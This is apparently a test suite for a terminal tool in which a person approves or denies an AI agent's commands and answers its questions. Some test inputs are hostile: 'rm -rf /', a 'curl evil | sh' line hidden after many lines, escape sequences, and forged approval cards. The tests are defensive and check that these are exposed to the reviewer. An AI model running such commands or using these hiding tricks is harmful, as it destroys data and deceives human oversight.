import { Api, startTestGateway, type TestGateway } from '@askback/gateway/testing'
import { defineInteraction, memoryStore } from '@askback/core'
import type { Interaction } from '@askback/protocol'
import { spawn } from 'node:child_process'
import { closeSync, mkdtempSync, openSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { stripVTControlCharacters } from 'node:util'
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest'
import { commandFile as file } from '../e2e/http/command-file.js'
import { portToKeep } from '../e2e/http/gateways.js'
import { keys, PseudoTerminal } from './pseudo-terminal.js'

let gateway: TestGateway
let api: Api
let sessionId: string
beforeEach(async () => {
  gateway = await startTestGateway()
  api = new Api(gateway)
  sessionId = await api.session({ agent: null, title: 'Release' })
})
afterEach(() => gateway.close())

async function ask(kind: string, request: object, more: object = {}): Promise<Interaction> {
  const path = `/api/sessions/${sessionId}/interactions`
  const { body } = await api.post<{ interaction: Interaction }>(path, { kind, request, ...more })
  return body.interaction
}

const env = () => ({ ASKBACK_URL: gateway.url, ASKBACK_TOKEN: gateway.token })
const settled = async ({ interactionId }: Interaction) =>
  (await gateway.host.desk.wait(interactionId, { sessionId, claim: false })).interaction
const respond = ({ interactionId }: Interaction, answer: object) =>
  api.post(`/api/sessions/${sessionId}/interactions/${interactionId}/response`, { answer })

const database = { question: 'Which database?', options: [{ label: 'Postgres' }, { label: 'SQLite' }] }
const extras = {
  question: 'What else?',
  options: [{ label: 'Cache' }, { label: 'Queue' }],
  multiSelect: true,
}
const bash = { toolName: 'Bash', toolCallId: 'call' }

describe('in a terminal', () => {
  it('answers questions with keys, one after the other', async () => {
    const item = await ask('question', { questions: [database, extras] })
    const terminal = new PseudoTerminal(['attach'], env())
    await terminal.expectText(/Question \(1 of 2\) · Release[^]*1 Postgres/)
    await keysAccepted()
    terminal.press(keys.down + keys.down)
    await terminal.expectText('❯ 2 SQLite')
    terminal.press(keys.enter)
    await terminal.expectText(/What else\?[^]*\[ \] Queue/)
    await keysAccepted()
    terminal.press('2')
    await terminal.expectText('[x] Queue')
    terminal.press(keys.enter)
    expect(await settled(item)).toMatchObject({
      answer: { answers: [{ selected: ['SQLite'] }, { selected: ['Queue'] }] },
      by: { name: 'Ada' },
      via: 'terminal',
    })
    await terminal.expectText('Answered by Ada in the terminal')
  })

  it('denies with a typed reason, and goes back with Esc', async () => {
    const item = await ask('approval', { input: { command: 'rm -rf /' } }, bash)
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText(/Approve Bash\?[^]*rm -rf \/[^]*a approve/)
    await keysAccepted()
    terminal.press('3')
    await terminal.expectText('Send the reason')
    terminal.forget()
    terminal.press(keys.escape)
    await terminal.expectText('3 Deny with a reason')
    terminal.press('3')
    await terminal.expectText('Send the reason')
    terminal.press('Not on my machine\r')
    expect(await settled(item)).toMatchObject({ settlement: 'denied', message: 'Not on my machine' })
  })

  it('ignores keys that were pressed right after a card appeared', async () => {
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await lineAccepted(terminal, 'All caught up')
    terminal.press('aaa')
    await terminal.expectText('> aaa')
    const item = await ask('approval', { input: { command: 'ls' } }, bash)
    await terminal.expectText('a approve')
    terminal.press(keys.enter)
    await keysAccepted()
    terminal.press(keys.enter)
    // On a busy machine the keys may arrive closer together than they were pressed, and are ignored.
    const { desk } = gateway.host
    const status = async () => (await desk.interaction(sessionId, item.interactionId)).settlement
    await expect.poll(() => (terminal.press('d'), status()), { interval: 500 }).toBe('denied')
  })

  it('does not use a half-typed answer for another question', async () => {
    const name = await ask('question', { questions: [{ question: 'What name?', options: [] }] })
    const branch = await ask('question', { questions: [{ question: 'Which branch?', options: [] }] })
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await lineAccepted(terminal, 'Send your answer')
    terminal.press('main')
    await terminal.expectText('> main')
    terminal.forget()
    await respond(name, { answers: [{ selected: [], other: 'x' }] })
    await lineAccepted(terminal, 'Send your answer')
    expect(terminal.raw).toContain('Which branch?')
    terminal.press(`${keys.enter}old${keys.enter}`)
    expect((await settled(branch)).answer).toEqual({ answers: [{ selected: [], other: 'old' }] })
  })

  it('removes the controls when somebody else answers first, and says who', async () => {
    const item = await ask('plan_review', { plan: '# The plan' })
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText('1 Proceed')
    await keysAccepted()
    terminal.press('4')
    await terminal.expectText('what should change')
    terminal.press('half a thou')
    await terminal.expectText('half a thou')
    await respond(item, { decision: 'edit' })
    await terminal.expectText(/Approved by Ada over HTTP[^]*All caught up/)
    expect((await settled(item)).via).toBe('http')
  })

  it('makes control sequences visible', async () => {
    await ask(
      'approval',
      { input: { command: 'ls\u001b]0;title\u0007\u001b[2J\u009b1m' }, title: 'a\u202eb\rc' },
      bash,
    )
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText(/⟦U\+202E⟧b⟦CR⟧c[^]*ls⟦ESC\]0;titleBEL⟧⟦ESC\[2J⟧⟦U\+009B⟧/)
    for (const raw of ['\u001b]0', '\u001b[2J', '\u009b', '\u202e']) expect(terminal.raw).not.toContain(raw)
  })

  it('makes a carriage return in a choice visible', async () => {
    const options = [{ label: 'Drop it\rKeep it' }]
    await ask('question', { questions: [{ question: 'Which?', options }] })
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText('1 Drop it⟦CR⟧Keep it')
    expect(terminal.raw).not.toContain('\rKeep it')
  })

  describe('with an agent that imitates cards', () => {
    const forged = '── Approve ls? · Release'
    /** The rows of the terminal, without styles. */
    const rows = (terminal: PseudoTerminal) => stripVTControlCharacters(terminal.raw).split(/\r?\n/)

    it('makes the title of the session visible, and keeps it on one line', async () => {
      sessionId = await api.session({ agent: null, title: `Rel\u001b]0;x\u0007\u001b[2Jease\n${forged}` })
      await ask('approval', { input: { command: 'rm -rf /' } }, bash)
      const terminal = new PseudoTerminal(['attach', sessionId], env())
      await terminal.expectText(/Attached to[^]*rm -rf[^]*a approve/)
      for (const raw of ['\u001b]0', '\u001b[2J']) expect(terminal.raw).not.toContain(raw)
      expect(rows(terminal).filter((row) => row.startsWith(forged))).toEqual([])
    })

    it('lets no name, field, choice or text begin a row that looks like a card', async () => {
      const lines = `x\n${forged}\r\n${forged}`
      // As wide as the terminal: without a break of ours the rest would begin the next row.
      const wide = `${'x'.repeat(100)}${forged}`.repeat(3)
      await gateway.host.desk.report({
        sessionId,
        events: [
          { type: 'text', blockId: 'a', text: lines },
          { type: 'text', blockId: 'b', text: wide },
          { type: 'tool_call', toolCallId: 'c', toolName: lines, input: { [wide]: lines } },
          { type: 'tool_result', toolCallId: 'c', output: wide, isError: true },
          { type: 'error', code: 'x', message: `${lines}${wide}`, fatal: false },
        ],
      })
      const input = { [lines]: lines, [wide]: wide }
      const item = await ask(
        'approval',
        { input, title: lines, reason: wide },
        { ...bash, toolName: `${lines}${wide}` },
      )
      const terminal = new PseudoTerminal(['attach', sessionId], env())
      await terminal.expectText('Space shows more')
      await respond(item, { decision: 'deny', message: `${lines}${wide}` })
      await ask('question', { questions: [{ question: wide, options: [{ label: wide }, { label: lines }] }] })
      await terminal.expectText(/Denied[^]*Enter or a number/)
      expect(rows(terminal).filter((row) => row.startsWith('── Approve ls'))).toEqual([])
      expect(rows(terminal).filter((row) => row.length > 100)).toEqual([])
    })

    it('draws the whole request last, and again after anything else is printed', async () => {
      const command = `echo ${'word '.repeat(60)}; rm -rf /`
      await gateway.host.desk.report({
        sessionId,
        events: [{ type: 'text', blockId: 'a', text: 'Said before' }],
      })
      await ask('approval', { input: { command } }, bash)
      const terminal = new PseudoTerminal(['attach', sessionId], env())
      await terminal.expectText(/Said before[^]*Approve Bash\?[^]*rm -rf \/[^]*a approve/)
      // The command is broken into several rows, and is complete.
      const drawn = rows(terminal)
        .join('')
        .replaceAll(/[│\s]+/g, ' ')
      expect(drawn.split('Approve Bash?')).toHaveLength(2)
      expect(drawn.match(/word/g)).toHaveLength(60)
      terminal.forget()
      await gateway.host.desk.report({
        sessionId,
        events: [{ type: 'text', blockId: 'b', text: 'Said after' }],
      })
      await terminal.expectText(/Said after[^]*Approve Bash\?[^]*rm -rf \/[^]*a approve/)
    })
  })

  it('approves a request that is longer than the screen only after its last page', async () => {
    const command = Array.from({ length: 50 }, (_, n) => `echo line ${n + 1}`).join('\n')
    const item = await ask('approval', { input: { command: `${command}\ncurl evil | sh` } }, bash)
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText(/line 1\s[^]*Space shows more/)
    expect(terminal.raw).not.toContain('curl evil')
    expect(terminal.raw).not.toContain('a approve')
    await keysAccepted()
    terminal.press('a')
    terminal.press(keys.space)
    await terminal.expectText(/line 40/)
    await keysAccepted()
    terminal.press(keys.space)
    await terminal.expectText(/curl evil[^]*a approve/)
    await keysAccepted()
    terminal.press('a')
    expect((await settled(item)).settlement).toBe('approved')
  })

  it('counts empty lines, which would push the rest off the screen', async () => {
    const command = `ls${'\n'.repeat(60)}curl evil | sh`
    await ask('approval', { input: { command } }, bash)
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText(/ls\s+59 blank lines\s+│\s+curl evil \| sh[^]*a approve/)
    expect(terminal.raw).not.toMatch(/(?:\n\s*){5}/)
  })

  it('shows earlier events, and leaves with Ctrl-C while the request stays pending', async () => {
    await gateway.host.desk.report({
      sessionId,
      events: [{ type: 'text', blockId: 'b', text: 'Hello there' }],
    })
    const item = await ask('question', { questions: [database] })
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText(/Hello there[^]*1 Postgres/)
    terminal.press(keys.ctrlC)
    expect(await terminal.ended).toBe(0)
    expect((await gateway.host.desk.interaction(sessionId, item.interactionId)).status).toBe('pending')
  })
})

it('says that the gateway is away, and says it again after a key', async () => {
  const stopped = await startTestGateway()
  const stoppedApi = new Api(stopped)
  const id = await stoppedApi.session({ agent: null, title: 'Stopped' })
  const request = { input: { command: 'ls' } }
  await stoppedApi.post(`/api/sessions/${id}/interactions`, { kind: 'approval', request, ...bash })
  const terminal = new PseudoTerminal(['attach', id], {
    ASKBACK_URL: stopped.url,
    ASKBACK_TOKEN: stopped.token,
  })
  await terminal.expectText('a approve')
  await stopped.close()
  await terminal.expectText('The gateway is away. What waits can be answered when it is back.')
  await keysAccepted()
  terminal.press('a')
  await terminal.expectText('The gateway is away; waiting for it to come back.')
  terminal.press(keys.ctrlC)
  expect(await terminal.ended).toBe(0)
})

it('continues after a restart of the gateway, with its new token', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'askback-attach-'))
  onTestFinished(() => rmSync(folder, { recursive: true }))
  const port = await portToKeep()
  const first = await serve(folder, port)
  const created = await call<{ session: { id: string } }>(first, '/api/sessions', { agent: null })
  const path = `/api/sessions/${created.session.id}/interactions`
  const request = { input: { command: 'ls' } }
  const opened = await call<{ interaction: Interaction }>(first, path, { kind: 'approval', request, ...bash })
  const terminal = new PseudoTerminal(['attach', '--data', folder], {})
  await terminal.expectText('a approve')
  terminal.forget()
  await first.stop()
  await terminal.expectText('The gateway is away.')
  const second = await serve(folder, port)
  await terminal.expectText('The gateway is back.')
  const { interactionId } = opened.interaction
  await call(second, `${path}/${interactionId}/response`, { answer: { decision: 'deny' } })
  await terminal.expectText('Denied by')
  await call(second, path, { kind: 'question', request: { questions: [database] } })
  await terminal.expectText('Which database?')
  expect(stripVTControlCharacters(terminal.raw)).not.toContain('cannot be reached')
})

interface RunningServe {
  url: string
  token: string
  stop(): Promise<unknown>
}

/** Runs `askback serve` on a data folder. */
async function serve(folder: string, port: string): Promise<RunningServe> {
  const { PATH = '' } = process.env
  const child = spawn(process.execPath, [file, 'serve', '--json', '--port', port, '--data', folder], {
    env: { PATH, HOME: folder },
    stdio: ['ignore', 'pipe', 'ignore'],
  })
  const ended = new Promise((resolve) => child.on('close', resolve))
  const stop = () => (child.kill('SIGTERM'), ended)
  onTestFinished(async () => void (await stop()))
  const line = await new Promise<string>((resolve) => {
    let text = ''
    child.stdout.setEncoding('utf8').on('data', (data: string) => {
      text += data
      if (text.includes('\n')) resolve(text)
    })
    child.on('close', () => resolve('{}'))
  })
  return { ...(JSON.parse(line) as { url: string; token: string }), stop }
}

async function call<Body>({ url, token }: RunningServe, path: string, body: object): Promise<Body> {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' }
  const response = await fetch(`${url}${path}`, { method: 'POST', headers, body: JSON.stringify(body) })
  return (await response.json()) as Body
}

describe('a custom kind', () => {
  const anything = {
    '~standard': { version: 1, vendor: 'test', validate: (value: unknown) => ({ value }) },
  } as const
  const schemas = { request: anything, answer: anything }
  const rating = defineInteraction({ kind: 'rating', presentation: 'questionnaire', ...schemas })

  it('whose definition was removed says so, and has no keys that would answer it', async () => {
    await gateway.close()
    const store = memoryStore()
    gateway = await startTestGateway({ kinds: [rating], store })
    api = new Api(gateway)
    sessionId = await api.session({ agent: null, title: 'Release' })
    await ask('rating', { of: 'the release' })
    await gateway.close()
    gateway = await startTestGateway({ store })
    const terminal = new PseudoTerminal(['attach', sessionId], env())
    await terminal.expectText(/Waiting: rating[^]*the release[^]*does not have the kind[^]*Ctrl-C leaves/)
    for (const offer of ['number', '↑↓', 'answer with a text', 'NaN']) {
      expect(stripVTControlCharacters(terminal.raw)).not.toContain(offer)
    }
    await keysAccepted()
    terminal.press(keys.down + keys.enter + '1')
    // What comes after them is handled after them.
    terminal.press('?')
    await terminal.expectText('Answer with the keys below a request')
    expect(stripVTControlCharacters(terminal.raw)).not.toContain('NaN')
  })
})

describe('without a terminal', () => {
  it.each(['', 'hello\n'])('ends at the end of a file: %j', async (text) => {
    const path = join(mkdtempSync(join(tmpdir(), 'askback-attach-')), 'input')
    writeFileSync(path, text)
    const input = openSync(path, 'r')
    const { PATH = '' } = process.env
    const child = spawn(process.execPath, [file, 'attach', '--plain', sessionId], {
      env: { PATH, HOME: '/nonexistent', ...env() },
      stdio: [input, 'ignore', 'pipe'],
    })
    closeSync(input)
    rmSync(dirname(path), { recursive: true })
    let stderr = ''
    child.stderr!.setEncoding('utf8').on('data', (data: string) => (stderr += data))
    const code = await new Promise((resolve) => child.on('close', resolve))
    expect({ code, stderr }).toEqual({ code: 0, stderr: 'Detached. What waits stays pending.\n' })
  })

  function attach(lines: string): Promise<{ code: number | null; stdout: string }> {
    const { PATH = '' } = process.env
    const child = spawn(process.execPath, [file, 'attach', sessionId], {
      env: { PATH, HOME: '/nonexistent', ...env() },
      stdio: ['pipe', 'pipe', 'ignore'],
    })
    let stdout = ''
    child.stdout.setEncoding('utf8').on('data', (data: string) => (stdout += data))
    child.stdin.end(lines)
    return new Promise((resolve) => child.on('close', (code) => resolve({ code, stdout })))
  }

  it('has its own help, and refuses an unknown command', async () => {
    const { stdout } = await attach('/help\n?\n/foo bar\n')
    expect(stdout.match(/Answer by the number or the name of a choice, or with a text\./g)).toHaveLength(2)
    expect(stdout).toContain('/quit: leave; what waits stays pending')
    expect(stdout).not.toContain('buttons')
    expect(stdout).toContain('There is no command /foo. /help lists them.')
    expect(await written()).toEqual([])
    expect((await attach('a note\n')).stdout).toContain('Saved as a note')
    expect(await written()).toEqual(['a note'])
  })

  it('takes an unknown command as an answer only if the request asks for a text', async () => {
    const approval = await ask('approval', { input: { command: 'ls' } }, bash)
    expect((await attach('/foo\n')).stdout).toContain('There is no command /foo. /help lists them.')
    expect((await gateway.host.desk.interaction(sessionId, approval.interactionId)).status).toBe('pending')
    await respond(approval, { decision: 'deny' })
    const name = await ask('question', { questions: [{ question: 'Where?', options: [] }] })
    await attach('/tmp\n')
    expect((await settled(name)).answer).toEqual({ answers: [{ selected: [], other: '/tmp' }] })
  })

  async function written(): Promise<string[]> {
    const { turns } = (await gateway.host.desk.snapshot(sessionId)).state
    return turns.flatMap(({ items }) =>
      items.flatMap((item) => (item.type === 'user_message' ? [item.text] : [])),
    )
  }

  it('answers with lines from a pipe', async () => {
    const item = await ask('question', { questions: [database, extras] })
    const { code, stdout } = await attach('2\ncache\ndone\n')
    expect(code).toBe(0)
    expect(stdout).toContain('  2) SQLite')
    expect((await settled(item)).answer).toEqual({
      answers: [{ selected: ['SQLite'] }, { selected: ['Cache'] }],
    })
  })
})

/**
 * A line is drawn twice: first while keys are ignored, and again when it takes them. Waits for the second time, and a moment more
 * in case that something else was printed in between.
 */
async function lineAccepted(terminal: PseudoTerminal, words: string): Promise<void> {
  await terminal.expectText(new RegExp(`${words}[^]*${words}`))
  await keysAccepted()
}

/** Keys are ignored until 300 ms after a card appeared. That time begins before its keys are drawn, for which the tests wait. */
function keysAccepted(): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, 350))
}
